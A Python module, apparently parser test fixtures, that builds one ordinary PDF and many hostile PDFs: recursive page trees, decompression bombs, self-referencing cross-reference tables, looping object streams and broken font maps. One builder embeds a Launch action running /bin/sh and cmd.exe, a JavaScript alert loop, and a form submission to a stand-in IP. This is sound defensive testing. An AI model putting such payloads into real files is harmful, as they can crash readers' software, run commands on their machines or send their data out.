"""PDF files written object by object, good ones and hostile ones."""

from __future__ import annotations

import io
import zlib

LINES = (
    "A/CONF.192/2026/WP.7",
    "Working paper on the marking of polymer frames",
    "1. The working group met in New York and considered the marking of polymer frames at length.",
    "2. The working group agreed to encourage States to deepen the marks on polymer frames.",
    "3. States that are in a position to do so are invited to share what they have learned.",
)


def written(objects: dict[int, bytes], *, trailer: bytes = b"/Root 1 0 R", prefix: bytes = b"") -> bytes:
    """A PDF of these objects with a table of where they stand."""
    made = io.BytesIO()
    made.write(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, content in objects.items():
        places[number] = made.tell()
        made.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start, size = made.tell(), max(objects) + 1
    made.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        made.write(b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f"))
    made.write(b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start))
    return made.getvalue()


def stream(data: bytes, more: bytes = b"", *, packed: bool = False) -> bytes:
    if packed:
        data, more = zlib.compress(data), more + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def text_content(lines: tuple[str, ...] = LINES) -> bytes:
    shown = "".join(f"1 0 0 1 72 {720 - 24 * nth} Tm ({line}) Tj\n" for nth, line in enumerate(lines))
    return f"BT /F1 10 Tf\n{shown}ET".encode("latin-1")


def page(box: bytes = b"0 0 595 842", resources: bytes = b"/Font<</F1 5 0 R>>", more: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s/Resources<<%s>>>>" % (
        box,
        more,
        resources,
    )


def objects(**changed: bytes) -> dict[int, bytes]:
    """The objects of a small good PDF; what is given replaces catalogue, pages, page, content or font."""
    parts = {
        "catalogue": b"<</Type/Catalog/Pages 2 0 R>>",
        "pages": b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "page": page(),
        "content": stream(text_content()),
        "font": b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        **changed,
    }
    return dict(enumerate(parts.values(), start=1))


def good() -> bytes:
    return written(objects())


def recursive_pages() -> bytes:
    return written(objects(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3/Parent 2 0 R>>"))


def huge_page_count() -> bytes:
    return written(objects(pages=b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"))


def many_pages(count: int = 60_000) -> bytes:
    kids = b"3 0 R " * count
    return written(objects(pages=b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)))


def huge_box() -> bytes:
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    return written(objects(page=page))


def not_a_box() -> bytes:
    return written(objects(page=page(b"9 9 9 9")))


def deep_arrays() -> bytes:
    return written(objects(page=page(more=b"/Deep %s%s" % (b"[" * 100_000, b"]" * 100_000))))


def endless_xref() -> bytes:
    """A table whose earlier part is itself."""
    data = good()
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def looping_object_streams() -> bytes:
    """Two streams of objects, each of which is said to stand in the other."""
    objs = objects(catalogue=b"<</Type/Catalog/Pages 6 0 R>>")
    objs[6] = stream(b"7 0 <</Type/Pages>>", b"/Type/ObjStm/N 1/First 4/Extends 7 0 R")
    objs[7] = stream(b"6 0 <</Type/Pages>>", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")
    made = written(objs)
    rows = b"".join(
        [b"\0\0\0\0\0", *(b"\2\0\0\0" + bytes((8,)) for _ in range(5)), b"\2\0\0\7\0", b"\2\0\0\6\0"]
    )
    table = stream(rows, b"/Type/XRef/W[1 3 1]/Index[0 8]/Size 9/Root 1 0 R")
    cut = made[: made.rindex(b"xref\n0")]
    return cut + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (table, len(cut))


def actions() -> bytes:
    catalogue = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
        b"/AA<</WC<</S/JavaScript/JS(while\\(true\\){app.alert\\(1\\)})>>>>"
        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(this.submitForm\\('http://192.0.2.1/'\\))>>]>>>>>>"
    )
    return written(objects(catalogue=catalogue))


def huge_image() -> bytes:
    objs = objects(
        page=page(resources=b"/Font<</F1 5 0 R>>/XObject<</I 6 0 R>>"),
        content=stream(b"q 500 0 0 500 0 0 cm /I Do Q " + text_content()),
    )
    objs[6] = stream(
        bytes(100_000_000),
        b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8",
        packed=True,
    )
    return written(objs)


def content_bomb() -> bytes:
    """Two hundred megabytes of spaces and brackets in the content of a page."""
    return written(objects(content=stream(b"BT /F1 10 Tf ET q Q " * 10_000_000, packed=True)))


def self_drawing_form() -> bytes:
    """A form that draws itself twice."""
    objs = objects(
        page=page(resources=b"/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"),
        content=stream(b"/X Do " + text_content()),
    )
    objs[6] = stream(
        b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    )
    return written(objs)


def broken_font_map() -> bytes:
    """Every letter is mapped to the same one, of the private use area."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap /CMapName /X def 1 begincodespacerange <00><FF> "
        b"endcodespacerange 1 beginbfrange <00><FF><E000> endbfrange endcmap end"
    )
    objs = objects(font=b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>")
    objs[6] = stream(cmap)
    return written(objs)


def surrogate_font_map() -> bytes:
    """Letters are mapped to halves of characters and to control characters."""
    cmap = (
        b"begincmap 1 begincodespacerange <00><FF> endcodespacerange 3 beginbfrange <00><60><D800> "
        b"<61><6F><0000> <70><FF><202E> endbfrange endcmap"
    )
    objs = objects(font=b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>")
    objs[6] = stream(cmap)
    return written(objs)


def scan() -> bytes:
    """Pages with a picture and no text."""
    objs = objects(
        page=page(resources=b"/XObject<</I 5 0 R>>"),
        content=stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        font=stream(
            bytes(100 * 100),
            b"/Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 8",
            packed=True,
        ),
    )
    return written(objs)


def with_password() -> bytes:
    """A PDF that opens with a password only."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    made = io.BytesIO()
    canvas = Canvas(made, encrypt=StandardEncryption("secret", ownerPassword="owner", canPrint=1))
    for nth, line in enumerate(LINES):
        canvas.drawString(72, 700 - 20 * nth, line)
    canvas.save()
    return made.getvalue()


def much_text(lines: int = 200_000) -> bytes:
    """One page on which a book stands, line upon line in the same place."""
    shown = b"".join(b"1 0 0 1 72 %d Tm (1. word word word) Tj\n" % (nth % 800) for nth in range(lines))
    return written(objects(content=stream(b"BT /F1 1 Tf " + shown + b"ET", packed=True)))
